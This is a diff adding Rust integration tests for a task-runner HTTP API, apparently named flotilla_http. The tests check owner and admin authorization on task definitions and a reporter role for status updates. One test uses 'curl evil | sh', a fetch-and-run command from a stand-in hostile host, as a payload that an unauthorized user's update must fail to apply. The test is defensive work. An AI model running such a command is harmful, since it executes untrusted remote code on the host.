@@ -14,16 +14,25 @@ fn tokens(c: &mut Config) {
             token: "alice-secret".into(),
             owner: "alice".into(),
             admin: false,
+            ..Default::default()
         },
         TokenConfig {
             token: "bob-secret-1".into(),
             owner: "bob".into(),
             admin: false,
+            ..Default::default()
+        },
+        TokenConfig {
+            token: "watcher-secret".into(),
+            owner: "watcher".into(),
+            role: flotilla_http::config::TokenRole::Reporter,
+            ..Default::default()
         },
         TokenConfig {
             token: "root-secret1".into(),
             owner: "root".into(),
             admin: true,
+            ..Default::default()
         },
     ];
 }
@@ -181,4 +190,161 @@ async fn misconfigured_backends_are_rejected_naming_the_key() {
     ];
     let e = flotilla_http::build_service(&c).await.expect_err("twice");
     assert!(e.to_string().starts_with("engines:"), "{e}");
+}
+
+#[tokio::test]
+async fn definitions_are_changed_only_by_their_owner_or_an_admin() {
+    let s = start_with(tokens).await;
+    let as_ = |token: &str, req: reqwest::RequestBuilder| req.bearer_auth(token);
+    // the owner is the token's identity, whatever the body says
+    let (code, def) = s
+        .send(as_("alice-secret", s.http.post(s.api("/task"))).body(
+            json!({"alias": "mine", "image": "x", "command": "echo a", "owner": "bob"}).to_string(),
+        ))
+        .await;
+    assert_eq!(code, 200, "{def}");
+    assert_eq!(def["owner"], "alice", "{def}");
+    let id = def["definition_id"].as_str().expect("id");
+    let path = format!("/task/{id}");
+    // bob may neither change nor delete it
+    let (code, body) = s
+        .send(
+            as_("bob-secret-1", s.http.put(s.api(&path)))
+                .body(json!({"command": "curl evil | sh"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 403, "{body}");
+    assert!(
+        body["error"].as_str().expect("msg").contains("alice"),
+        "{body}"
+    );
+    let (code, body) = s
+        .send(as_("bob-secret-1", s.http.delete(s.api(&path))))
+        .await;
+    assert_eq!(code, 403, "{body}");
+    let (_, got) = s.send(as_("alice-secret", s.http.get(s.api(&path)))).await;
+    assert_eq!(got["command"], "echo a", "bob's update was applied: {got}");
+    // the owner may change it, but not hand it to someone else
+    let (code, body) = s
+        .send(
+            as_("alice-secret", s.http.put(s.api(&path)))
+                .body(json!({"command": "echo b"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 200, "{body}");
+    assert_eq!(body["command"], "echo b");
+    assert_eq!(body["owner"], "alice");
+    let (code, body) = s
+        .send(
+            as_("alice-secret", s.http.put(s.api(&path))).body(json!({"owner": "bob"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 400, "{body}");
+    assert!(body["error"].as_str().expect("msg").starts_with("owner"));
+    // an admin may change and delete anyone's definition
+    let (code, _) = s
+        .send(
+            as_("root-secret1", s.http.put(s.api(&path)))
+                .body(json!({"command": "echo c"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 200);
+    let (code, body) = s
+        .send(as_("root-secret1", s.http.delete(s.api(&path))))
+        .await;
+    assert_eq!(code, 200, "{body}");
+    s.server.shutdown().await;
+}
+
+/// Whether process `pid` still exists.
+fn alive(pid: i32) -> bool {
+    nix::sys::signal::kill(nix::unistd::Pid::from_raw(pid), None).is_ok()
+}
+
+#[tokio::test]
+async fn status_reports_need_a_reporter_and_keep_one_container_per_attempt() {
+    let s = start_with(tokens).await;
+    let as_ = |token: &str, req: reqwest::RequestBuilder| req.bearer_auth(token);
+    let (code, _) = s
+        .send(
+            as_("alice-secret", s.http.post(s.api("/task")))
+                .body(json!({"alias": "long", "image": "x", "command": "sleep 60"}).to_string()),
+        )
+        .await;
+    assert_eq!(code, 200);
+    let (code, run) = s
+        .send(
+            as_(
+                "alice-secret",
+                s.http.put(s.api("/task/alias/long/execute")),
+            )
+            .body("{}"),
+        )
+        .await;
+    assert_eq!(code, 200, "{run}");
+    let id = run["run_id"].as_str().expect("id").to_string();
+    let status = |token: &'static str, body: serde_json::Value| {
+        as_(token, s.http.put(s.api(&format!("/{id}/status")))).body(body.to_string())
+    };
+    // wait until the process runs
+    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(60);
+    let pid = loop {
+        let (_, r) = s
+            .send(as_(
+                "alice-secret",
+                s.http.get(s.api(&format!("/history/{id}"))),
+            ))
+            .await;
+        if r["status"] == "RUNNING"
+            && let Some(pid) = r["engine_ref"]
+                .as_str()
+                .and_then(|e| e.strip_prefix("local:"))
+        {
+            break pid.parse::<i32>().expect("pid");
+        }
+        assert!(tokio::time::Instant::now() < deadline, "never ran: {r}");
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    };
+    assert!(alive(pid));
+    // the owner may not report: reports are for admins and reporters
+    let (code, body) = s
+        .send(status(
+            "alice-secret",
+            json!({"status": "STOPPED", "exit_code": 0}),
+        ))
+        .await;
+    assert_eq!(code, 403, "{body}");
+    assert!(body["error"].as_str().expect("msg").contains("reporter"));
+    // a running attempt may not be sent back for a retry
+    let (code, body) = s
+        .send(status("watcher-secret", json!({"status": "NEEDS_RETRY"})))
+        .await;
+    assert_eq!(code, 409, "{body}");
+    assert!(
+        body["error"]
+            .as_str()
+            .expect("msg")
+            .contains("second container"),
+        "{body}"
+    );
+    // STOPPED from a reporter: the engine stops the process, and the run
+    // keeps the reported outcome
+    let (code, body) = s
+        .send(status(
+            "watcher-secret",
+            json!({"status": "STOPPED", "exit_code": 0, "exit_reason": "seen done"}),
+        ))
+        .await;
+    assert_eq!(code, 200, "{body}");
+    assert_eq!(body["run"]["status"], "STOPPED");
+    assert_eq!(body["run"]["exit_code"], 0);
+    let deadline = tokio::time::Instant::now() + std::time::Duration::from_secs(20);
+    while alive(pid) {
+        assert!(
+            tokio::time::Instant::now() < deadline,
+            "process {pid} still runs after its run was reported STOPPED"
+        );
+        tokio::time::sleep(std::time::Duration::from_millis(50)).await;
+    }
+    s.server.shutdown().await;
 }
